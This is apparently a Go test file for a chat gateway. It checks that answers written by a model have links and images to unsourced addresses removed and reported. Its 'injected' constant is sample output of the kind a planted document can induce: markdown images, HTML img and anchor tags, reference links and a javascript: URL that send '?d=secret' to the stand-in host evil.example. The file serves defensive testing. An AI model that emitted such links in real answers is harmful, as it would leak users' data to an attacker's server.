package chat_test

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/citeway/citeway"
	"github.com/citeway/citeway/dialect"
	"github.com/citeway/citeway/dialect/table"
	"github.com/citeway/citeway/internal/gateway/chat"
	"github.com/citeway/citeway/internal/gateway/model"
	"github.com/citeway/citeway/internal/link"
)

// injected is what a document can make a model write.
const injected = "The tides rise twice a day [1]. ![chart](https://evil.example/p.png?d=secret) Read [the form](https://evil.example/?d=secret) or " +
	"[this](javascript:alert('evil.example?d')) or [that][x] or <https://evil.example/?d=secret>.\n\n" +
	"<img src=\"https://evil.example/?d=secret\"><a href=\"https://evil.example/?d=secret\">here</a>\n\n[x]: https://evil.example/?d=secret\n\n" +
	"```sh\ncurl [1](https://code.example/?d=1)\n```\n\nHigh water is at six in the morning [1]."

// plain is the forms' JSON without its escapes, as far as links are concerned.
func plain(out []byte) string {
	return strings.NewReplacer(`\u003c`, "<", `\u003e`, ">", `\u0026`, "&", `\n`, "\n", `\"`, `"`, `\\`, `\`).Replace(string(out))
}

// TestNoFormLinksToWhatADocumentSays: in every form, whole and streamed, an image or a
// link to an address that is no source's is gone; its words and the code stay.
func TestNoFormLinksToWhatADocumentSays(t *testing.T) {
	for _, form := range table.All() {
		if form.NewEncoder == nil {
			continue
		}
		for _, stream := range []bool{false, true} {
			m := &writer{text: injected}
			var out bytes.Buffer
			if err := service(m, nil).Answer(t.Context(), chat.Turn{Question: "When?"}, form.Encoder(&out, dialect.Options{Stream: stream})); err != nil {
				t.Fatal(form.Name, err)
			}
			got := plain(out.Bytes())
			for _, bad := range []string{"](https://evil", "(javascript:", "![", "<img", "href=\"https://evil", "src=\"https://evil", "<https://evil", "]: https://evil", "?d=secret)"} {
				if strings.Contains(got, bad) {
					t.Errorf("%s, streamed %v: %s in %s", form.Name, stream, bad, got)
				}
			}
			if !stream && !strings.Contains(got, "code.example/?d=1") {
				t.Errorf("%s: the code is gone: %s", form.Name, got)
			}
		}
	}
}

// TestLinksAreTold: what was taken out is told, and the settings can allow more.
func TestLinksAreTold(t *testing.T) {
	text := "See [Tide tables](tides.pdf), [the form](https://forms.intranet.example/leave) and ![a map](https://forms.intranet.example/map.png)."
	for _, test := range []struct {
		rule  link.Rule
		want  string
		found int
	}{
		{link.Rule{}, "See [Tide tables](tides.pdf), the form and a map.", 2},
		{link.Rule{Hosts: []string{"intranet.example"}}, "See [Tide tables](tides.pdf), [the form](https://forms.intranet.example/leave) and a map.", 1},
		{link.Rule{All: true}, "See [Tide tables](tides.pdf), [the form](https://forms.intranet.example/leave) and a map.", 1},
	} {
		s := chat.New(chat.Options{Library: tides(), Models: map[string]model.Model{"": &writer{text: text}}, Links: test.rule})
		var f citeway.Folder
		if err := s.Answer(t.Context(), chat.Turn{Question: "When?"}, &f); err != nil {
			t.Fatal(err)
		}
		a, found := f.Answer(), 0
		for _, finding := range a.Findings {
			if finding.Kind == citeway.UnsafeURL {
				found++
			}
		}
		if a.Text != test.want || found != test.found {
			findings, _ := json.Marshal(a.Findings)
			t.Errorf("%+v: %q with %d findings, want %q with %d: %s", test.rule, a.Text, found, test.want, test.found, findings)
		}
	}
}
